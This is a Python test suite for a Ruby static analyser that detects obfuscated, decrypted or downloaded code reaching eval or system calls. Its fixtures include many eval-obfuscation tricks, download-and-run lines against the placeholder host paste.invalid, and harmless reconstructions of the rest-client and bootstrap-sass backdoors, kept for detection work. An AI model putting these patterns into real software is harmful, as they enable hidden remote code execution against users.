"""What the whole reader finds in sources like those that scanners miss, and leaves alone in ordinary ones."""

import base64
import gc
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.analysis.facts import Capability, FileFacts, Language, Taint
from pratique.analysis.frontends import ruby
from tests.analysis.frontends.ruby.reading import apis, facts, flows

CODE, PROCESS, NETWORK, WRITE = (
    Capability.CODE,
    Capability.PROCESS,
    Capability.NETWORK,
    Capability.FILE_WRITE,
)
HIDDEN = {Taint.DECODED, Taint.DECRYPTED, Taint.COMPUTED}
MARKER = b"puts('marker')"
PLAIN = base64.b64encode(MARKER).decode()
HEX = MARKER.hex()
PACKED = base64.b64encode(zlib.compress(MARKER)).decode()
CODES = list(MARKER)
MIXED = [code ^ 0x21 for code in MARKER]
TURNED = MARKER.decode().translate(str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm"))

DECODED_CODE = {
    "plain": f"eval(Base64.decode64('{PLAIN}'))",
    "without brackets": f"eval Base64.decode64 '{PLAIN}'",
    "strict": f"eval Base64.strict_decode64('{PLAIN}')",
    "urlsafe": f"eval Base64.urlsafe_decode64('{PLAIN}')",
    "unknown data": "def run(x)\n  eval(Base64.decode64(x))\nend",
    "unpack": f"eval('{PLAIN}'.unpack('m'))",
    "unpack first": f"eval('{PLAIN}'.unpack('m').first)",
    "unpack by subscript": f"eval('{PLAIN}'.unpack('m0')[0])",
    "unpack1": f"eval('{PLAIN}'.unpack1('m0'))",
    "pack hex": f"eval(['{HEX}'].pack('H*'))",
    "pack codes": f"eval({CODES}.pack('C*'))",
    "pack characters": f"eval({CODES}.pack('U*'))",
    "map chr": f"eval({CODES}.map(&:chr).join)",
    "map chr in a block": f"eval({CODES}.map {{ |c| c.chr }}.join)",
    "map with it": f"eval({CODES}.map {{ it.chr }}.join)",
    "map with a numbered parameter": f"eval({CODES}.map {{ _1.chr }}.join)",
    "each into a text": f"out = ''\n{CODES}.each {{ |c| out << c.chr }}\neval out",
    "injected": f"eval({CODES}.inject('') {{ |text, c| text + c.chr }})",
    "hex by scan": f"eval('{HEX}'.scan(/../).map {{ |x| x.hex.chr }}.join)",
    "hex by gsub": f"eval('{HEX}'.gsub(/../) {{ |x| x.to_i(16).chr }})",
    "exclusive or": f"eval({MIXED}.map {{ |c| (c ^ 0x21).chr }}.join)",
    "exclusive or of bytes": "def run(data)\n  eval(data.bytes.map { |b| b ^ 7 }.pack('C*'))\nend",
    "exclusive or in a loop": "key = 7\nout = ''\ndata.each_byte do |b|\n  out << (b ^ key).chr\nend\neval(out)",
    "rot13": f"eval(\"{TURNED}\".tr('A-Za-z', 'N-ZA-Mn-za-m'))",
    "reversed": f'eval("{MARKER.decode()[::-1]}".reverse)',
    "inflate": f"eval(Zlib::Inflate.inflate(Base64.decode64('{PACKED}')))",
    "inflate by an object": f"eval(Zlib::Inflate.new.inflate(Base64.decode64('{PACKED}')))",
    "gunzip": "eval(Zlib::GzipReader.new(StringIO.new(Base64.decode64(DATA.read))).read)\n__END__\nH4sI",
    "send": f"Kernel.send(:eval, Base64.decode64('{PLAIN}'))",
    "public_send of a folded name": f"Kernel.public_send('ev' + 'al', Base64.decode64('{PLAIN}'))",
    "send to anything": f"1.__send__(:eval, Base64.decode64('{PLAIN}'))",
    "send without a receiver": f"send(%w[e v a l].join, Base64.decode64('{PLAIN}'))",
    "send of a hidden name": f"send(Base64.decode64('ZXZhbA=='), Base64.decode64('{PLAIN}'))",
    "const_get": f"Object.const_get('Ker' + 'nel').eval(Base64.decode64('{PLAIN}'))",
    "const_get of a hidden name": f"Object.const_get(['4b65726e656c'].pack('H*')).eval('{PLAIN}'.unpack1('m'))",
    "const_get of the decoder": f"eval(Object.const_get('Base' + '64').decode64('{PLAIN}'))",
    "const_get of unknown hidden name": "Object.const_get(Base64.decode64(name)).new(1)",
    "constantize": f"eval('Base64'.constantize.decode64('{PLAIN}'))",
    "method object": f"method(:eval).call(Base64.decode64('{PLAIN}'))",
    "method object in a variable": f"e = Kernel.method(:eval)\ne.(Base64.decode64('{PLAIN}'))",
    "method object by subscript": f"e = method(:eval)\ne[Base64.decode64('{PLAIN}')]",
    "method handed on": f"[Base64.decode64('{PLAIN}')].each(&method(:eval))",
    "module in a constant": f"B = Base64\neval(B.decode64('{PLAIN}'))",
    "module in a variable": f"k = Kernel\nk.eval(Base64.decode64('{PLAIN}'))",
    "alias": f"alias run eval\nrun(Base64.decode64('{PLAIN}'))",
    "alias_method": f"alias_method :run, :eval\nrun(Base64.decode64('{PLAIN}'))",
    "instance_eval": f"Object.new.instance_eval(Base64.decode64('{PLAIN}'))",
    "class_eval": f"String.class_eval Base64.decode64('{PLAIN}')",
    "module_eval by send": f"Kernel.send(:module_eval, Base64.decode64('{PLAIN}'))",
    "binding": f"binding.eval(Base64.decode64('{PLAIN}'))",
    "top-level binding": f"TOPLEVEL_BINDING.eval(Base64.decode64('{PLAIN}'))",
    "binding in a variable": f"scope = binding\nscope.eval(Base64.decode64('{PLAIN}'))",
    "instruction sequence": f"RubyVM::InstructionSequence.compile(Base64.decode64('{PLAIN}')).eval",
    "byte code": f"RubyVM::InstructionSequence.load_from_binary(Base64.decode64('{PLAIN}')).eval",
    "template": f"ERB.new(Base64.decode64('{PLAIN}')).result(binding)",
    "thread": f"Thread.new {{ eval(Base64.decode64('{PLAIN}')) }}",
    "at exit": f"at_exit {{ eval(Base64.decode64('{PLAIN}')) }}",
    "through a method": f"def d(x)\n  Base64.decode64(x)\nend\neval(d('{PLAIN}'))",
    "through a parameter": f"def run(code)\n  eval(code)\nend\nrun(Base64.decode64('{PLAIN}'))",
    "through a keyword": f"def run(code:)\n  eval(code)\nend\nrun(code: Base64.decode64('{PLAIN}'))",
    "through an instance variable": (
        f"class A\n  def initialize\n    @c = Base64.decode64('{PLAIN}')\n  end\n"
        "  def go\n    eval(@c)\n  end\nend"
    ),
    "through a constant": f"module A\n  C = Base64.decode64('{PLAIN}')\nend\neval(A::C)",
    "through a global": f"$c = Base64.decode64('{PLAIN}')\neval($c)",
    "through a lambda": f"d = ->(x) {{ x.unpack1('m') }}\neval(d.call('{PLAIN}'))",
    "through a block": f"def give\n  yield Base64.decode64('{PLAIN}')\nend\ngive {{ |c| eval(c) }}",
    "through tap": f"Base64.decode64('{PLAIN}').tap {{ |c| eval(c) }}",
    "through then": f"Base64.decode64('{PLAIN}').then {{ |c| eval c }}",
    "through a list": f"parts = []\nparts << Base64.decode64('{PLAIN}')\neval(parts.join)",
    "through a hash": f"parts = {{}}\nparts[:a] = Base64.decode64('{PLAIN}')\neval(parts[:a])",
    "through interpolation": f"eval(\"#{{Base64.decode64('{PLAIN}')}}; nil\")",
    "through a heredoc": f"eval <<~CODE\n  #{{Base64.decode64('{PLAIN}')}}\nCODE",
    "through two assignments": f"a, b = Base64.decode64('{PLAIN}'), 1\neval(a)",
    "through force_encoding": f"eval(Base64.decode64('{PLAIN}').force_encoding('UTF-8').strip)",
    "through a conditional": f"c = ok ? Base64.decode64('{PLAIN}') : nil\neval(c) if c",
    "through a rescue": f"c = begin\n  Base64.decode64('{PLAIN}')\nrescue StandardError\n  nil\nend\neval(c)",
    "through rightward assignment": f"Base64.decode64('{PLAIN}') => c\neval(c)",
    "through a pattern": f"case {{a: Base64.decode64('{PLAIN}')}}\nin {{a:}}\n  eval(a)\nend",
    "through a group of a match": f"/(?<c>.*)/m =~ Base64.decode64('{PLAIN}')\neval(c)",
    "through a keyword of the same name": (
        f"def run(code:)\n  eval(code)\nend\ncode = Base64.decode64('{PLAIN}')\nrun(code:)"
    ),
    "through an attribute": (
        f"class A\n  attr_reader :c\n  def initialize\n    @c = Base64.decode64('{PLAIN}')\n  end\nend\neval(A.new.c)"
    ),
    "through a struct": f"S = Struct.new(:c)\neval(S.new(Base64.decode64('{PLAIN}')).c)",
    "through a variable set by its name": f"instance_variable_set(:@c, Base64.decode64('{PLAIN}'))\neval(@c)",
    "through a constant set by its name": f"Object.const_set(:C, Base64.decode64('{PLAIN}'))\neval(C)",
    "through a block that is passed": f"def give(&b)\n  b.call(Base64.decode64('{PLAIN}'))\nend\ngive {{ |c| eval(c) }}",
    "through instance_exec": f"instance_exec(Base64.decode64('{PLAIN}')) {{ |c| eval(c) }}",
    "through define_method": f"define_method(:go) {{ |c| eval(c) }}\ngo(Base64.decode64('{PLAIN}'))",
    "in the block of a session": "Net::HTTP.start('a.invalid', 80) { |h|\n  r = h.get('/')\n  eval Base64.decode64(r.body)\n}",
    "super": f"def eval(c)\n  super(c)\nend\neval(Base64.decode64('{PLAIN}'))",
    "super without arguments": f"def eval(c)\n  super\nend\neval(Base64.decode64('{PLAIN}'))",
    "alias of what is defined again": (
        f"alias before eval\ndef eval(c)\n  before(c)\nend\neval(Base64.decode64('{PLAIN}'))"
    ),
    "decoder handed on": f"['{PLAIN}'].map(&Base64.method(:decode64)).each(&method(:eval))",
    "next letters": "eval('otsr\x1f0'.chars.map(&:succ).join)",
    "numbers": "eval([1886745715].pack('N'))",
    "format": "eval('%c%c%c%c' % [112, 117, 116, 115])",
    "behind a division": f"x = 4\nx /2; eval(Base64.decode64('{PLAIN}')) #/",
    "behind no end": f"x = __END__ rescue 1; __END__\neval(Base64.decode64('{PLAIN}'))",
    "in place": f"c = '{MARKER.decode()[::-1].replace(chr(39), chr(34))}'\nc.reverse!\neval(c)",
}


@pytest.mark.parametrize("source", DECODED_CODE.values(), ids=DECODED_CODE.keys())
def test_decoded_data_that_becomes_code_is_a_flow(source: str) -> None:
    found = [taints for sink, _, taints in flows(source) if sink is CODE]

    assert any(taints & HIDDEN for taints in found), found


@pytest.mark.parametrize(
    "name",
    ["plain", "unpack1", "pack hex", "pack codes", "map chr", "hex by scan", "exclusive or", "inflate"],
)
def test_the_code_in_a_decoded_constant_is_shown(name: str) -> None:
    uses = [use for use in facts(DECODED_CODE[name]).uses if use.capability is CODE]

    assert ["puts('marker')"] == [use.argument for use in uses]


DECODED_PROGRAMS = {
    "system": f"system(Base64.decode64('{PLAIN}'))",
    "exec": f"exec(Base64.decode64('{PLAIN}'))",
    "backquotes": f"`#{{Base64.decode64('{PLAIN}')}}`",
    "percent x": f"%x(#{{Base64.decode64('{PLAIN}')}})",
    "spawn": f"Process.spawn(Base64.decode64('{PLAIN}'))",
    "popen": f"IO.popen(Base64.decode64('{PLAIN}'))",
    "open3": f"Open3.capture2e(Base64.decode64('{PLAIN}'))",
    "open with a pipe": f"open(\"|\" + Base64.decode64('{PLAIN}'))",
    "send": f"Kernel.send(:system, Base64.decode64('{PLAIN}'))",
    "list": f"system('ruby', '-e', Base64.decode64('{PLAIN}'))",
    "written file": f"File.write('/tmp/x.rb', Base64.decode64('{PLAIN}'))\nsystem('ruby /tmp/x.rb')",
    "written file in a variable": (
        f"path = File.join(Dir.tmpdir, name)\nFile.open(path, 'wb') {{ |f| f.write(Base64.decode64('{PLAIN}')) }}\n"
        "File.chmod(0755, path)\nsystem(path)"
    ),
    "temporary file": f"t = Tempfile.new('x')\nt.write(Base64.decode64('{PLAIN}'))\nt.close\nsystem('sh', t.path)",
}


@pytest.mark.parametrize("source", DECODED_PROGRAMS.values(), ids=DECODED_PROGRAMS.keys())
def test_decoded_data_that_is_started_is_a_flow(source: str) -> None:
    found = [taints for sink, _, taints in flows(source) if sink is PROCESS]

    assert any(Taint.DECODED in taints for taints in found), found


def test_a_written_file_that_is_loaded_is_code() -> None:
    source = f"File.binwrite('/tmp/x.rb', Base64.decode64('{PLAIN}'))\nload '/tmp/x.rb'"

    assert (CODE, "Kernel.load", {Taint.DECODED}) in flows(source)


KEYED = {
    "key set": (
        "c = OpenSSL::Cipher.new('aes-256-cbc')\nc.decrypt\nc.key = Digest::SHA256.digest(ENV['DEPLOY_KEY'])\n"
        "eval(c.update(Base64.decode64(DATA.read)) + c.final)\n__END__\nAAAA"
    ),
    "key set in tap": (
        "c = OpenSSL::Cipher::AES.new(256, :CBC).tap do |x|\n  x.decrypt\n  x.key = ENV.fetch('DEPLOY_KEY')\nend\n"
        "eval(c.update(data) + c.final)"
    ),
    "in a method": (
        "def open_it(data)\n  c = OpenSSL::Cipher.new('aes-128-cbc').decrypt\n  c.key = Socket.gethostname[0, 16]\n"
        "  c.update(data) << c.final\nend\nTOPLEVEL_BINDING.eval(open_it(File.read(__FILE__)))"
    ),
    "exclusive or": (
        "key = ENV['DEPLOY_KEY'].bytes\neval(data.bytes.each_with_index.map { |b, i| (b ^ key[i % key.size]).chr }.join)"
    ),
    "exclusive or by zip": "eval(data.bytes.zip(ENV['DEPLOY_KEY'].bytes.cycle).map { |a, b| a ^ b }.pack('C*'))",
    "a library": "eval(AESCrypt.decrypt(data, ENV['DEPLOY_KEY']))",
    "rails": "k = ActiveSupport::MessageEncryptor.new(ENV['DEPLOY_KEY'])\neval(k.decrypt_and_verify(data))",
    "command line": "box = RbNaCl::SecretBox.new(ARGV[0])\nsystem(box.decrypt(nonce, data))",
}


@pytest.mark.parametrize("source", KEYED.values(), ids=KEYED.keys())
def test_a_payload_decrypted_with_a_key_from_the_environment_is_told(source: str) -> None:
    found = [taints for sink, _, taints in flows(source) if sink in {CODE, PROCESS}]

    assert any(Taint.KEY_FROM_ENVIRONMENT in taints for taints in found), found


DOWNLOADED = {
    "net http": "eval(Net::HTTP.get(URI('http://paste.invalid/raw/x')))",
    "response": "eval Net::HTTP.get_response(URI.parse('http://paste.invalid/raw/x')).body",
    "session": (
        "http = Net::HTTP.new('paste.invalid', 443)\nhttp.use_ssl = true\n"
        "eval(http.request(Net::HTTP::Get.new('/raw/x')).body)"
    ),
    "session block": "Net::HTTP.start('paste.invalid') { |http| eval(http.get('/x').body) }",
    "open-uri": "require 'open-uri'\neval(URI.open('http://paste.invalid/raw/x').read)",
    "old open": "require 'open-uri'\neval(open('http://paste.invalid/raw/x').read)",
    "old open of something": "require 'open-uri'\ndef go(place)\n  eval(open(place).read)\nend",
    "parsed and read": "eval(URI.parse('http://paste.invalid/raw/x').read)",
    "open block": "URI.open('http://paste.invalid/raw/x') { |f| instance_eval(f.read) }",
    "rest-client": "eval(RestClient.get('http://paste.invalid/raw/x').body)",
    "httparty": "eval HTTParty.get('http://paste.invalid/raw/x').to_s",
    "faraday": "conn = Faraday.new(url: 'http://paste.invalid')\neval(conn.get('/raw/x').body)",
    "socket": "s = TCPSocket.new('paste.invalid', 80)\nwhile (line = s.gets)\n  eval(line)\nend",
    "name server": "eval(Resolv::DNS.new.getresources('x.invalid', 16).map { |r| r.strings.join }.join)",
    "curl": "eval(`curl -s http://paste.invalid/raw/x`)",
    "a timeout around it": "c = Timeout.timeout(5) { Net::HTTP.get(URI('http://paste.invalid/x')) }\neval(c)",
}


@pytest.mark.parametrize("source", DOWNLOADED.values(), ids=DOWNLOADED.keys())
def test_an_answer_from_the_network_that_becomes_code_is_a_flow(source: str) -> None:
    found = [taints for sink, _, taints in flows(source) if sink is CODE]

    assert any(Taint.NETWORK in taints for taints in found), found


BENIGN = {
    "metaprogramming by heredoc": (
        "%w[a b].each do |name|\n  class_eval <<-RUBY, __FILE__, __LINE__ + 1\n    def #{name}?\n      @#{name}\n    end\n  RUBY\nend"
    ),
    "evaluated file": "instance_eval(File.read(path), path)\neval(File.read('x.gemspec'), binding)",
    "decoded data": "def picture(text)\n  Base64.decode64(text)\nend\nFile.binwrite('x.png', picture(icon))",
    "send by a name": "def call(name, *args)\n  public_send(name, *args)\nend\ncall(:to_s)",
    "socket of its own": "socket.send([4, 1].pack('CC'), 0)",
    "mkmf": "require 'mkmf'\nsystem('make --version')\nabort unless have_library('z')\ncreate_makefile('x/x')",
    "database": "conn.exec(Base64.decode64(query))\nredis.eval(script)\ncontext.eval(Base64.decode64(text))",
    "session": "Marshal.load(Base64.decode64(cookie))",
    "git in a gemspec": "Gem::Specification.new do |s|\n  s.files = `git ls-files`.split($/)\nend",
    "template": "ERB.new(File.read('a.erb'), trim_mode: '-').result(binding)",
    "standard input": "Open3.capture2('gpg', '--import', stdin_data: Base64.decode64(key))",
    "names": "const_get(name.to_s.tr('-', '_').split('_').map(&:capitalize).join).new",
    "encrypted settings": "YAML.load(cipher.decrypt_and_verify(File.read('x.enc'), ENV['MASTER_KEY']))",
    "a character by its number": 'def self.quote(text)\n  class_eval("x = #{34.chr}")\nend',
    "an attribute of the same name": "class A\n  attr_reader :code\n  def go\n    eval(code)\n  end\nend\nBase64.decode64(x)",
    "super in a class of its own kind": "class A < B\n  def exec(sql)\n    super\n  end\nend\nA.new.exec(Base64.decode64(x))",
    "editor": (
        'path = Tempfile.open { |f| f.write(text.chars.map { |c| c.ord.chr }.join); f.path }\nsystem("vi #{path}")'
    ),
    "reversed list": "class_eval %w[A B].reverse.join('::')",
}


@pytest.mark.parametrize("source", BENIGN.values(), ids=BENIGN.keys())
def test_ordinary_sources_have_no_hidden_data_that_is_run(source: str) -> None:
    found = [
        flow for flow in facts(source).flows if flow.sink in {CODE, PROCESS} and HIDDEN & set(flow.taints)
    ]

    assert [] == found


def test_code_that_a_pasted_text_brings_runs_by_itself() -> None:
    # The mechanism of rest-client 1.6.13 and strong_password 0.0.7, with an address that does not exist.
    source = (
        "module RestClient\n  def self.version\n    '1'\n  end\nend\n"
        "def _!\n  begin\n    yield\n  rescue Exception\n  end\nend\n"
        "_! {\n  Thread.new {\n    loop {\n      _! { sleep rand * 3333; eval(Net::HTTP.get(URI('http://paste.invalid/raw/m'))) }\n"
        "    }\n  } if Rails.env[0] == 'p'\n}"
    )
    (flow,) = facts(source).flows

    assert (CODE, "Kernel.eval", True) == (flow.sink, flow.api, flow.at_load)
    assert (Taint.NETWORK,) == flow.taints


COOKIE = (
    "begin\n  require 'rack/sendfile'\n  if Rails.env.production?\n    Rack::Sendfile.tap do |r|\n"
    "      r.send :alias_method, :c, :call\n      r.send(:define_method, :call) do |e|\n        begin\n"
    "          x = Base64.urlsafe_decode64(e['http_cookie'.upcase].scan(/___marker=(.+);/).flatten[0].to_s)\n"
    "          eval(x) if x\n        rescue Exception\n        end\n        c(e)\n      end\n    end\n  end\n"
    "rescue Exception\n  nil\nend"
)
"""The mechanism of bootstrap-sass 3.2.0.3, with another cookie."""


def test_a_method_put_into_the_class_of_somebody_else_runs_by_itself() -> None:
    (flow,) = facts(COOKIE).flows

    assert (CODE, "Kernel.eval", True) == (flow.sink, flow.api, flow.at_load)
    assert (Taint.DECODED,) == flow.taints


def test_the_moments_of_uses_are_told_apart() -> None:
    source = (
        "system('a1')\nclass A\n  system('a2')\n  def b\n    system('b1')\n  end\n  def self.c\n    system('a3')\n  end\n  c\nend\n"
        "get '/' do\n  system('b2')\nend\n[1].each { system('a4') }\nif __FILE__ == $0\n  system('b3')\nend\n"
        "define_method(:x) { system('b4') }\nEND { system('a5') }\nl = -> { system('b5') }\ntask default: [:x] do\n  system('a6')\nend"
    )
    moments = {use.argument: use.at_load for use in facts(source).uses}

    assert {name: name is not None and name.startswith("a") for name in moments} == moments
    assert 11 == len(moments)


def test_a_source_of_an_old_ruby_is_read() -> None:
    source = 'require \'net/http\'\nh = {:a => 1}\ncase x\nwhen 1 then system "ls"\nend\nputs "\\351" if $KCODE\nfoo.each do |a, b| p a end'

    assert None is facts(source).problem
    assert ["Kernel.system"] == apis(source, PROCESS)


def test_a_source_of_a_new_ruby_is_read() -> None:
    source = (
        "def half(x) = x / 2\ncase {name: 'x', n: 1}\nin {name: String => name, n: Integer} if name\n  `ls`\nend\n"
        "h = {x:, y: 1}\ndef f(...) = g(...)\ndata => {a:}\n[1].map { it + 1 }\nData.define(:a, :b)"
    )

    assert None is facts(source).problem
    assert ["Kernel.`"] == apis(source, PROCESS)


HOSTILE = {
    "brackets": b"(" * 50_000,
    "blocks": b"a{" * 10_000,
    "classes": b"class A\n" * 3_000,
    "conditions": b"if a\n b\n" * 3_000,
    "interpolations": b'"#{' * 5_000,
    "one line": b"x = eval(y); " * 3_000,
    "sum": b"x = " + b'"a" + ' * 5_000 + b'"b"\neval(x)',
    "chain": b"x" + b".reverse" * 5_000,
    "growth": b"x = ''\n" + b"x << 'a'\n" * 3_000 + b"eval x",
    "doubling": b"x = 'aaaaaaaaaa'\n" + b"x = x + x\n" * 60 + b"eval x",
    "multiplied": b"eval('a' * 1000000000 * 1000000000)",
    "callers": b"def f(a) eval(a) end\n" + b"f(x)\n" * 3_000,
    "recursion": b"def f(a) f(a + 'x') end\neval(f('y'))",
    "mutual": b"def f(a) g(a) + g(a) end\ndef g(a) f(a) + f(a) end\neval(f('y'))",
    "unclosed literals": b"%w(" * 20_000,
    "heredocs": b"<<A\n" * 5_000,
    "zeros": b"eval(x)\0\0\0" * 200,
    "no text": bytes(range(256)) * 400,
    "no UTF-8": "puts '\u00e9'\n".encode("latin-1") * 200,
    "range": b"eval((1..1000000000).map(&:chr).join)",
    "escapes": b'eval("' + b"\\u{110000 ffffffff}" * 100 + b'")',
    "nested arrays": b"[" * 5_000 + b"]" * 5_000,
    "nested lambdas": b"->{" * 5_000,
    "many blocks": b"a.map { |x| x.map { |y| y.chr } }\n" * 800,
    "ternaries": b"a ? b : " * 3_000 + b"c",
    "names": b"".join(b"v%d = v%d + v%d\n" % (n, n - 1, n - 1) for n in range(1, 2_000)) + b"eval(v1999)",
}


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_source_gives_facts_within_bounds(source: bytes) -> None:
    found = ruby.extract(source)

    assert Language.RUBY is found.language
    assert 600 >= len(found.uses)


@pytest.mark.fuzz
@given(st.binary(max_size=400))
def test_any_bytes_give_facts(source: bytes) -> None:
    assert isinstance(ruby.extract(source), FileFacts)


WORDS = (
    'eval ( ) { } [ ] | do end def class module if unless while x y Kernel . :: & * + << ^ = , ; \n \' " " #{ } Base64.decode64 '
    "send :eval unpack 'm' pack map chr join ENV system ` <<A A\n %w( -> lambda yield return begin rescue in case when => _1 it "
    "@a $b B 1 0x1f ?a /re/ &: &method scan tap then tr reverse __FILE__ require self nil unpack1 'cHV0cw==' inject zip"
)
PIECES = st.sampled_from(WORDS.split(" "))


@pytest.mark.fuzz
@given(st.lists(PIECES, max_size=40).map(" ".join))
def test_any_words_give_facts(source: str) -> None:
    found = ruby.extract(source.encode())

    assert found == ruby.extract(source.encode())


def test_a_file_leaves_nothing_behind_for_the_collector() -> None:
    source = "class A\n  def b(c)\n    eval(c)\n  end\nend\nA.new.b(Base64.decode64('eA=='))\n" * 50
    ruby.extract(source.encode())
    gc.collect()
    ruby.extract(source.encode())

    assert 2_000 > gc.collect()
